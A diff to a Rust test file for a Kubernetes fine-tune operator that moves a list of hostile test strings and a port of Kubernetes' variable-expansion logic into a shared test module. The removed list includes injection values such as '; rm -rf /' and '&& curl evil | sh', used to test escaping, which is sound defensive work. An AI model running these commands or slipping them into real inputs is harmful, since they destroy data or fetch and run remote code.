@@ -15,6 +15,7 @@ use finetune_operator::children::build_children;
 use finetune_operator::render::parse_finetunejob;
 use kube::core::cel::Validator;
 use serde_json::{Value, json};
+use testkit::expansion::{HOSTILE, expand};
 
 // ---------------------------------------------------------------------------------------------
 // Helpers
@@ -820,80 +821,6 @@ fn tensorboard_logs_go_below_the_jobs_output_directory() {
 // ---------------------------------------------------------------------------------------------
 // Escaping: hostile values in the new string fields
 // ---------------------------------------------------------------------------------------------
-
-const HOSTILE: &[&str] = &[
-    "$(HOME)",
-    "$(MASTER_ADDR)x",
-    "$$(COLUMNS)",
-    "a$$b",
-    "$",
-    "x$(",
-    "${COLUMNS}",
-    "`id`",
-    "$(id)",
-    "; rm -rf /",
-    "&& curl evil | sh",
-    "it's \"quoted\"",
-    "ünïcødé ✓ 日本語",
-    "$ünïcødé",
-    "-- --output_dir=/tmp",
-    "{time}{rank}",
-];
-
-/// Kubernetes' `$(VAR)` expansion (k8s.io/kubernetes third_party/forked/golang/expansion):
-/// `$$` → `$`; `$(NAME)` → the value when NAME is defined, else left as written; any other `$`
-/// is copied with the byte after it.
-fn expand(input: &str, env: &BTreeMap<String, String>) -> String {
-    let bytes = input.as_bytes();
-    let mut out: Vec<u8> = Vec::new();
-    let mut i = 0;
-    while i < bytes.len() {
-        if bytes[i] == b'$' && i + 1 < bytes.len() {
-            match bytes[i + 1] {
-                b'$' => {
-                    out.push(b'$');
-                    i += 2;
-                }
-                b'(' => match bytes[i + 2..].iter().position(|&b| b == b')') {
-                    Some(len) => {
-                        let name = std::str::from_utf8(&bytes[i + 2..i + 2 + len]).unwrap();
-                        match env.get(name) {
-                            Some(v) => out.extend_from_slice(v.as_bytes()),
-                            None => out.extend_from_slice(format!("$({name})").as_bytes()),
-                        }
-                        i += 3 + len;
-                    }
-                    None => {
-                        out.extend_from_slice(b"$(");
-                        i += 2;
-                    }
-                },
-                other => {
-                    out.push(b'$');
-                    out.extend_from_slice(char::from(other).to_string().as_bytes());
-                    i += 2;
-                }
-            }
-        } else {
-            out.push(bytes[i]);
-            i += 1;
-        }
-    }
-    String::from_utf8_lossy(&out).into_owned()
-}
-
-#[test]
-fn expansion_port_behaves_like_kubernetes() {
-    let env = BTreeMap::from([("A".to_string(), "x".to_string())]);
-    assert_eq!(expand("$(A)", &env), "x");
-    assert_eq!(expand("$$(A)", &env), "$(A)");
-    assert_eq!(expand("$(B)", &env), "$(B)");
-    assert_eq!(expand("a$$b", &env), "a$b");
-    assert_eq!(expand("$", &env), "$");
-    assert_eq!(expand("x$(", &env), "x$(");
-    assert_ne!(expand("$ü", &env), "$ü");
-    assert_eq!(expand("$$ü", &env), "$ü");
-}
 
 /// Whether a tracking value holds the MLflow URI under test (the one field refusing spaces).
 fn wanted_uri(tracking: &Value) -> bool {
